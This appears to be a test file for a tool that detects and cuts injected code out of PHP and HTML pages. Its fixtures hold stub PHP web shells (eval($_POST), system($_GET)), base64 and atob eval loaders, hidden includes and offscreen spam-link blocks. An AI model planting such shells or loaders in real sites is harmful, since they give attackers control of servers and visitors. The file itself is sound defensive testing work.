import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { encodeBytes } from '../../../target/index.ts'
import { type InjectedPart, injectedParts } from './injected-parts.ts'

const own = "/** The site's own page. */\ndefine('USE_THEMES', true);\nrequire __DIR__ . '/blog-header.php';\n"
const hidden =
  '<div style="position:absolute;left:-9999px"><div><a href="http://a.example/">x</a><a href="http://b.example/">y</a><a href=\'https://c.example/\'>z</a></div></div>'

/** A page, the part of it that was recognised, and what is to be cut: empty where nobody may, undefined where nothing else is there. */
const cases: readonly (readonly [name: string, page: string, seen: string, parts: InjectedPart[] | undefined])[] = [
  [
    'a block before the first block',
    `<?php eval(base64_decode('eA=='));?><?php\n${own}`,
    'eval(base64_decode(',
    [{ line: 1, text: "<?php eval(base64_decode('eA=='));?><?php", replacement: '<?php' }],
  ],
  [
    'statements behind the opening tag, out of sight',
    `<?php${' '.repeat(90)}$a="}'";eval($a);\n${own}`,
    'eval($a)',
    [{ line: 1, text: `<?php${' '.repeat(90)}$a="}'";eval($a);`, replacement: '<?php' }],
  ],
  [
    'an include between marks',
    `<?php\n/*a1b2c*/\n\n@include "\\057a";\n\n/*a1b2c*/\n${own}`,
    'include "\\057a";',
    [{ line: 2, text: '/*a1b2c*/\n\n@include "\\057a";\n\n/*a1b2c*/' }],
  ],
  [
    'an include on a line of its own',
    `<?php\n${own}  @include "\\057a";\r\n// end\n`,
    'include "\\057a";',
    [{ line: 5, text: '  @include "\\057a";\r' }],
  ],
  [
    'a block behind the last',
    `<?php\n${own}?>\n<?php eval($_POST['x']); ?>\n`,
    'eval($_POST[',
    [{ line: 6, text: "<?php eval($_POST['x']); ?>" }],
  ],
  [
    'an element within a line',
    `<html><p>${own}</p>${hidden}</html>\n`,
    hidden.slice(0, 60),
    [{ line: 4, text: `</p>${hidden}</html>`, replacement: '</p></html>' }],
  ],
  [
    'a script over several lines',
    `<html>\n<script>\nvar a = 1;\n</script>\n<p>${own}</p>\n`,
    '<script>\nvar a',
    [{ line: 2, text: '<script>\nvar a = 1;\n</script>' }],
  ],
  [
    'a statement of JavaScript before the code of the page',
    `eval(atob("eA=="));!function(){${own}}();\n`,
    'eval(atob("eA=="));',
    [
      {
        line: 1,
        text: `eval(atob("eA=="));!function(){${own.split('\n')[0]}`,
        replacement: `!function(){${own.split('\n')[0]}`,
      },
    ],
  ],
  [
    'a statement of JavaScript on a line of its own',
    `!function(){${own}}();\n;eval(atob('eA=='))\n`,
    "eval(atob('eA=='))",
    [{ line: 5, text: ";eval(atob('eA=='))", replacement: ';' }],
  ],
  [
    'a value that a statement of the page takes',
    `var x = eval(atob("eA=="));\n${own.repeat(12)}`,
    'eval(atob("eA=="));',
    [],
  ],
  [
    'a menu without three links to elsewhere',
    `<div style="x"><a href="http://a.example/">x</a></div>\n${own}`,
    '<div style="x">',
    [],
  ],
  ['a file that is nothing else', "<?php @eval($_POST['x']);?>", 'eval($_POST', undefined],
  [
    'a shell with its own form',
    "<html><form method=post><input name=x></form><?php system($_GET['x']); ?></html>",
    'system($_GET',
    undefined,
  ],
  ['within a statement of the page', `<?php\n${own}$x = eval($_POST['x']);\n`, 'eval($_POST', undefined],
  ['brackets that do not come out even', `<?php\n${own}eval($_POST['x']\n`, 'eval($_POST', undefined],
  ['within a statement of a larger page', `<?php\n${own.repeat(12)}$x = eval($_POST['x']);\n`, 'eval($_POST', []],
  [
    'an element of a larger page that is never closed',
    `<html><p>${own.repeat(12)}</p><div style="x"><a>\n`,
    '<div style="x">',
    [],
  ],
  ['an element that is never closed', `<html><p>${own}</p><div style="x"><a>\n`, '<div style="x">', undefined],
]

for (const [name, page, seen, parts] of cases)
  test(name, () => {
    const bytes = Buffer.from(page)
    assert.deepEqual(injectedParts(bytes, [{ offset: bytes.indexOf(seen), length: seen.length }]), parts)
  })

test('a form is that of the site where only what is put into pages was recognised', () => {
  const bytes = Buffer.from(`<form action="/search"><input name="q"></form>\n${hidden}\n`)
  const places = [{ offset: bytes.indexOf('<div style'), length: 10 }]
  assert.deepEqual(injectedParts(bytes, places), undefined)
  assert.deepEqual(injectedParts(bytes, places, { isPage: true }), [{ line: 2, text: hidden }])
})

test('several parts are cut at once, and a page of other bytes is cut exactly', () => {
  const page = Buffer.concat([
    Buffer.from(`<?php eval($a);?><html>\n<p>${own}`),
    Buffer.of(0xe9, 0xff),
    Buffer.from(`</p>\n${hidden}\n<b>end</b>\n`),
  ])
  const places = ['eval($a)', '<div style'].map(one => ({ offset: page.indexOf(one), length: one.length }))
  assert.deepEqual(injectedParts(page, places), [
    { line: 1, text: '<?php eval($a);?><html>', replacement: '<html>' },
    { line: 6, text: hidden },
  ])
})

test('what is cut is there to the letter, whatever the page', () => {
  const piece = fc.constantFrom(
    '<?php ',
    '?>',
    '\n',
    'eval($a);',
    '<div style="x">',
    '</div>',
    '"',
    "'",
    '/*',
    '*/',
    '{',
    '}',
    'é',
    own,
    '// ',
  )
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 25 }), fc.nat(60), (pieces, at) => {
      const bytes = Buffer.from(pieces.join(''))
      const offset = Math.min(at, bytes.length)
      const lines = bytes.toString('latin1').split('\n')
      for (const part of injectedParts(bytes, [{ offset, length: Math.min(5, bytes.length - offset) }]) ?? []) {
        const text = encodeBytes(part.text).toString('latin1').split('\n')
        assert.deepEqual(lines.slice(part.line - 1, part.line - 1 + text.length), text)
        assert.ok(!part.replacement?.includes('\n'))
      }
    }),
    { numRuns: 400 },
  )
})
